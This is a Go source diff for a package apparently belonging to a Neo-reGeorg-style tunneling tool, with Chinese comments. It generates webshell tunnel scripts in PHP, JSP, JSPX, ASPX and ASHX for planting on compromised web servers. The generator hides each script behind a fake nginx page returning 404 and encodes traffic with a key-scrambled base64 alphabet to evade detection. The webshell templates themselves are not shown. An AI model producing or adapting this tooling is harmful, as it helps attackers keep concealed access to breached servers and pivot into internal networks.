@@ -0,0 +1,194 @@
+package neoreg
+
+import (
+	"embed"
+	"fmt"
+	"sort"
+	"strconv"
+	"strings"
+)
+
+//go:embed templates
+var templates embed.FS
+
+// ScriptTypes 为支持生成的服务端脚本类型
+var ScriptTypes = []string{"php", "jsp", "jspx", "aspx", "ashx"}
+
+// DefaultPage 为未指定伪装页面时使用的内置模板
+var DefaultPage = "nginx"
+
+const javaImports = "java.io.*,java.net.*,java.nio.*,java.nio.channels.*,java.security.*,java.security.cert.*,java.util.*,javax.net.ssl.*"
+
+const csharpNamespaces = "System,System.Collections.Generic,System.IO,System.Net,System.Net.Sockets,System.Text,System.Web"
+
+// GenerateOptions 为生成服务端脚本的选项
+type GenerateOptions struct {
+	// Page 为请求无法解码时返回的伪装页面, 可以是内置模板名 (见 PageTemplates) 或 HTML 内容
+	Page string
+	// StatusCode 为伪装页面的状态码, 默认 404
+	StatusCode int
+	// MaxReadSize 为单个 READ 响应携带的最大数据量
+	MaxReadSize int
+	// BodyPrefix / BodySuffix 与客户端 URL 中的 body_prefix / body_suffix 相同,
+	// 脚本解码前去掉请求体两侧的内容, 并在响应两侧加上同样的内容
+	BodyPrefix string
+	BodySuffix string
+}
+
+// PageTemplates 返回内置伪装页面的名称
+func PageTemplates() []string {
+	entries, _ := templates.ReadDir("templates/pages")
+	var names []string
+	for _, entry := range entries {
+		names = append(names, strings.TrimSuffix(entry.Name(), ".html"))
+	}
+	sort.Strings(names)
+	return names
+}
+
+// Generate 生成 key 对应的全部服务端脚本, 返回 tunnel.php 等文件名到内容的映射
+func Generate(key string, opts *GenerateOptions) (map[string][]byte, error) {
+	scripts := make(map[string][]byte)
+	for _, typ := range ScriptTypes {
+		script, err := GenerateScript(key, typ, opts)
+		if err != nil {
+			return nil, err
+		}
+		scripts["tunnel."+typ] = script
+	}
+	return scripts, nil
+}
+
+// GenerateScript 生成单个服务端脚本, 编码字符集与 BLV 偏移由 key 推导, 与客户端一致
+func GenerateScript(key, scriptType string, opts *GenerateOptions) ([]byte, error) {
+	if opts == nil {
+		opts = &GenerateOptions{}
+	}
+	page, err := loadPage(opts.Page)
+	if err != nil {
+		return nil, err
+	}
+	code := opts.StatusCode
+	if code == 0 {
+		code = 404
+	}
+	maxRead := opts.MaxReadSize
+	if maxRead <= 0 {
+		maxRead = DefaultMaxReadSize
+	}
+
+	var script string
+	switch strings.ToLower(scriptType) {
+	case "php":
+		script, err = readTemplate("tunnel.php")
+	case "jsp":
+		script, err = readTemplate("tunnel.java")
+		script = `<%@ page contentType="text/html" trimDirectiveWhitespaces="true" import="` + javaImports + `" %><%!
+` + script + `%><%
+try {
+    neoTunnel(request, response, application, out);
+} catch (Exception e) {
+}
+%>
+`
+	case "jspx":
+		script, err = readTemplate("tunnel.java")
+		script = `<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0">
+<jsp:directive.page contentType="text/html" import="` + javaImports + `"/>
+<jsp:declaration><![CDATA[
+` + script + `]]></jsp:declaration>
+<jsp:scriptlet><![CDATA[
+try {
+    neoTunnel(request, response, application, out);
+} catch (Exception e) {
+}
+]]></jsp:scriptlet>
+</jsp:root>
+`
+	case "aspx":
+		script, err = readTemplate("tunnel.cs")
+		var header string
+		for _, ns := range strings.Split(csharpNamespaces, ",") {
+			header += `<%@ Import Namespace="` + ns + `" %>`
+		}
+		script = `<%@ Page Language="C#" %>` + header + `<script runat="server">
+` + script + `</script><% NeoTunnel(Context); %>`
+	case "ashx":
+		script, err = readTemplate("tunnel.cs")
+		var usings string
+		for _, ns := range strings.Split(csharpNamespaces, ",") {
+			usings += "using " + ns + ";\n"
+		}
+		script = `<%@ WebHandler Language="C#" Class="TunnelHandler" %>
+` + usings + `
+public class TunnelHandler : IHttpHandler
+{
+` + indent(script, "    ") + `
+    public void ProcessRequest(HttpContext context)
+    {
+        NeoTunnel(context);
+    }
+
+    public bool IsReusable
+    {
+        get { return false; }
+    }
+}
+`
+	default:
+		return nil, fmt.Errorf("unsupported script type: %s", scriptType)
+	}
+	if err != nil {
+		return nil, err
+	}
+
+	conf := NewConf(key)
+	replacer := strings.NewReplacer(
+		"NEOREG_CHARS", permutedChars(conf),
+		"NEOREG_OFFSET", strconv.Itoa(int(conf.blvOffset)),
+		"NEOREG_MAXREAD", strconv.Itoa(maxRead),
+		"NEOREG_CODE", strconv.Itoa(code),
+		"NEOREG_PAGE", string(base64encode(page, conf.EncodeMap)),
+		"NEOREG_PREFIX", string(base64encode([]byte(opts.BodyPrefix), conf.EncodeMap)),
+		"NEOREG_SUFFIX", string(base64encode([]byte(opts.BodySuffix), conf.EncodeMap)),
+	)
+	return []byte(replacer.Replace(script)), nil
+}
+
+func readTemplate(name string) (string, error) {
+	data, err := templates.ReadFile("templates/" + name)
+	return string(data), err
+}
+
+// loadPage 返回内置模板的内容, 不是模板名时把 page 当作 HTML 内容
+func loadPage(page string) ([]byte, error) {
+	if page == "" {
+		page = DefaultPage
+	}
+	if data, err := templates.ReadFile("templates/pages/" + page + ".html"); err == nil {
+		return data, nil
+	}
+	if !strings.Contains(page, "<") {
+		return nil, fmt.Errorf("unknown page template: %s, available: %s", page, strings.Join(PageTemplates(), ", "))
+	}
+	return []byte(page), nil
+}
+
+// permutedChars 返回按 key 置换后的 BASE64 字符集, 服务端直接用它编解码
+func permutedChars(conf *NeoregConf) string {
+	chars := []byte(BASE64CHARS)
+	for i, c := range chars {
+		chars[i] = conf.EncodeMap[c]
+	}
+	return string(chars)
+}
+
+func indent(s, prefix string) string {
+	lines := strings.Split(strings.TrimRight(s, "\n"), "\n")
+	for i, line := range lines {
+		if line != "" {
+			lines[i] = prefix + line
+		}
+	}
+	return strings.Join(lines, "\n") + "\n"
+}